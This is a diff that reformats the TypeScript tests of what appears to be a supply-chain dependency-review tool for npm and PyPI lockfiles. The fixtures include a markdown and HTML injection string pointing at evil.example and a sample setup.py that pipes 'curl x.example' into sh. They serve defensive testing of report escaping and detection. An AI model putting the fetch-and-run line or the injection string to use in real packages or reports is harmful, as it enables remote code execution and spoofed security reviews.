@@ -77,7 +77,24 @@ describe('the axios comment', () => {
   });
 });
 
-const INTERNAL = ['scriptTextKnown', 'previousIsBase', 'scriptsTruncated', 'implicitNodeGyp', 'identityIndicators', 'payloadIndicators', 'publisherVersionsInWindow', 'thresholdDays', 'freshRelease', 'nameInBase', 'versionCount', 'ageDays', 'minimumAgeHours', 'directOf', 'baseHasWheels', 'allHooks'];
+const INTERNAL = [
+  'scriptTextKnown',
+  'previousIsBase',
+  'scriptsTruncated',
+  'implicitNodeGyp',
+  'identityIndicators',
+  'payloadIndicators',
+  'publisherVersionsInWindow',
+  'thresholdDays',
+  'freshRelease',
+  'nameInBase',
+  'versionCount',
+  'ageDays',
+  'minimumAgeHours',
+  'directOf',
+  'baseHasWheels',
+  'allHooks',
+];
 
 describe('every example scenario', () => {
   it.each([...NPM, ...PYPI])('%s: no internal evidence field in the Markdown or the terminal text', async (scenario) => {
@@ -93,7 +110,21 @@ describe('every example scenario', () => {
 });
 
 function change(over: Partial<ReviewedChange>): ReviewedChange {
-  return { ecosystem: 'npm', name: 'pkg', from: '1.0.0', to: '1.0.1', kind: 'upgraded', lockfile: 'package-lock.json', line: 3, direct: true, directOf: [''], via: [], findings: [], severity: 'critical', ...over };
+  return {
+    ecosystem: 'npm',
+    name: 'pkg',
+    from: '1.0.0',
+    to: '1.0.1',
+    kind: 'upgraded',
+    lockfile: 'package-lock.json',
+    line: 3,
+    direct: true,
+    directOf: [''],
+    via: [],
+    findings: [],
+    severity: 'critical',
+    ...over,
+  };
 }
 
 function result(changes: ReviewedChange[]): ReviewResult {
@@ -101,7 +132,14 @@ function result(changes: ReviewedChange[]): ReviewResult {
     changes,
     conclusion: 'failure',
     incomplete: [],
-    summary: { lockfiles: ['package-lock.json'], changes: changes.length, needsRegistry: changes.length, analysed: changes.length, offline: false, bySeverity: { critical: changes.length, high: 0, medium: 0, low: 0, info: 0 } },
+    summary: {
+      lockfiles: ['package-lock.json'],
+      changes: changes.length,
+      needsRegistry: changes.length,
+      analysed: changes.length,
+      offline: false,
+      bySeverity: { critical: changes.length, high: 0, medium: 0, low: 0, info: 0 },
+    },
     notes: [],
   };
 }
@@ -128,12 +166,52 @@ const EVIL = '@octocat <img src=x> ``` `x` [ok](https://evil.example) <!-- lockw
 
 describe('escaping of the evidence in words', () => {
   const findings = [
-    { signal: 'possible-takeover', severity: 'critical' as const, message: 'm', evidence: { indicators: ['publisher-changed', EVIL], addedDependencies: [EVIL], dependenciesComparedWith: EVIL } },
-    { signal: 'publisher-changed', severity: 'low' as const, message: 'm', evidence: { publisher: EVIL, previousPublisher: 'alice', previousVersion: EVIL, reasons: [EVIL], previousPublishers: [{ name: EVIL, versionsInWindow: 2 }], publisherReleasesSinceBase: [{ version: EVIL, publishedAt: EVIL }] } },
-    { signal: 'trust-downgrade', severity: 'high' as const, message: 'm', evidence: { level: EVIL, baselineLevel: EVIL, baselineVersion: EVIL, baselinePublishedAt: EVIL, publisher: EVIL, baselinePublisher: EVIL, weakerReleasesSinceBaseline: [EVIL] } },
+    {
+      signal: 'possible-takeover',
+      severity: 'critical' as const,
+      message: 'm',
+      evidence: { indicators: ['publisher-changed', EVIL], addedDependencies: [EVIL], dependenciesComparedWith: EVIL },
+    },
+    {
+      signal: 'publisher-changed',
+      severity: 'low' as const,
+      message: 'm',
+      evidence: {
+        publisher: EVIL,
+        previousPublisher: 'alice',
+        previousVersion: EVIL,
+        reasons: [EVIL],
+        previousPublishers: [{ name: EVIL, versionsInWindow: 2 }],
+        publisherReleasesSinceBase: [{ version: EVIL, publishedAt: EVIL }],
+      },
+    },
+    {
+      signal: 'trust-downgrade',
+      severity: 'high' as const,
+      message: 'm',
+      evidence: {
+        level: EVIL,
+        baselineLevel: EVIL,
+        baselineVersion: EVIL,
+        baselinePublishedAt: EVIL,
+        publisher: EVIL,
+        baselinePublisher: EVIL,
+        weakerReleasesSinceBaseline: [EVIL],
+      },
+    },
     { signal: 'integrity-mismatch', severity: 'critical' as const, message: 'm', evidence: { registryIntegrity: EVIL, lockfileIntegrity: EVIL } },
-    { signal: 'install-script-added', severity: 'high' as const, message: 'm', evidence: { scriptsSince: EVIL, scripts: { postinstall: `node x\n${EVIL}\n\`\`\`\`\n## ✅ all clear` } } },
-    { signal: 'some-future-signal', severity: 'high' as const, message: 'm', evidence: { registryMessage: EVIL, urls: [EVIL], nested: { text: EVIL }, flag: true } },
+    {
+      signal: 'install-script-added',
+      severity: 'high' as const,
+      message: 'm',
+      evidence: { scriptsSince: EVIL, scripts: { postinstall: `node x\n${EVIL}\n\`\`\`\`\n## ✅ all clear` } },
+    },
+    {
+      signal: 'some-future-signal',
+      severity: 'high' as const,
+      message: 'm',
+      evidence: { registryMessage: EVIL, urls: [EVIL], nested: { text: EVIL }, flag: true },
+    },
   ];
   const md = renderMarkdown(result([change({ findings })]));
 
@@ -170,7 +248,16 @@ describe('a Python sdist build', () => {
       signal: 'install-hook-changed',
       severity: 'high' as const,
       message: 'builds its sdist',
-      evidence: { version: '2.0.0', sdist: 'pkg-2.0.0.tar.gz', noWheels: true, lostPlatforms: ['any'], buildBackend: 'setuptools.build_meta', baseBuildBackend: 'hatchling.build', requires: ['setuptools>=61'], setupPy: { sha256: 'ab'.repeat(32), size: 40, text: "import os\nos.system('curl x.example | sh')" } },
+      evidence: {
+        version: '2.0.0',
+        sdist: 'pkg-2.0.0.tar.gz',
+        noWheels: true,
+        lostPlatforms: ['any'],
+        buildBackend: 'setuptools.build_meta',
+        baseBuildBackend: 'hatchling.build',
+        requires: ['setuptools>=61'],
+        setupPy: { sha256: 'ab'.repeat(32), size: 40, text: "import os\nos.system('curl x.example | sh')" },
+      },
     };
     const md = renderMarkdown(result([change({ ecosystem: 'pypi', findings: [hook] })]));
     expect(outsideDetails(md).join('\n')).toContain("setup.py:\n```\nimport os\nos.system('curl x.example | sh')\n```");
@@ -180,8 +267,54 @@ describe('a Python sdist build', () => {
 });
 
 describe('odd evidence shapes', () => {
-  const KEYS = ['publisher', 'previousPublisher', 'previousVersion', 'reasons', 'previousPublishers', 'publisherReleasesSinceBase', 'window', 'level', 'baselineLevel', 'baselineVersion', 'weakerReleasesSinceBaseline', 'created', 'versionCount', 'publishedAt', 'foreignHashes', 'registryIntegrity', 'lockfileIntegrity', 'scriptsSince', 'scripts', 'before', 'after', 'setupPy', 'added', 'removed', 'addedDependencies', 'indicators', 'files', 'baseHooks', 'sdist', 'requires', 'lostPlatforms'];
-  const SIGNALS = ['publisher-changed', 'trust-downgrade', 'young-package', 'dormant-revival', 'integrity-mismatch', 'install-script-added', 'install-script-changed', 'maintainers-changed', 'possible-takeover', 'suspicious-new-package', 'pth-file-added', 'install-hook-changed', 'deprecated'];
+  const KEYS = [
+    'publisher',
+    'previousPublisher',
+    'previousVersion',
+    'reasons',
+    'previousPublishers',
+    'publisherReleasesSinceBase',
+    'window',
+    'level',
+    'baselineLevel',
+    'baselineVersion',
+    'weakerReleasesSinceBaseline',
+    'created',
+    'versionCount',
+    'publishedAt',
+    'foreignHashes',
+    'registryIntegrity',
+    'lockfileIntegrity',
+    'scriptsSince',
+    'scripts',
+    'before',
+    'after',
+    'setupPy',
+    'added',
+    'removed',
+    'addedDependencies',
+    'indicators',
+    'files',
+    'baseHooks',
+    'sdist',
+    'requires',
+    'lostPlatforms',
+  ];
+  const SIGNALS = [
+    'publisher-changed',
+    'trust-downgrade',
+    'young-package',
+    'dormant-revival',
+    'integrity-mismatch',
+    'install-script-added',
+    'install-script-changed',
+    'maintainers-changed',
+    'possible-takeover',
+    'suspicious-new-package',
+    'pth-file-added',
+    'install-hook-changed',
+    'deprecated',
+  ];
   it.each([null, 5, true, {}, [null, 5, [], {}], 'x'])('render without throwing when every field is %p', (odd) => {
     const evidence = Object.fromEntries(KEYS.map((k) => [k, odd]));
     const findings = SIGNALS.map((signal) => ({ signal, severity: 'high' as const, message: 'm', evidence }));
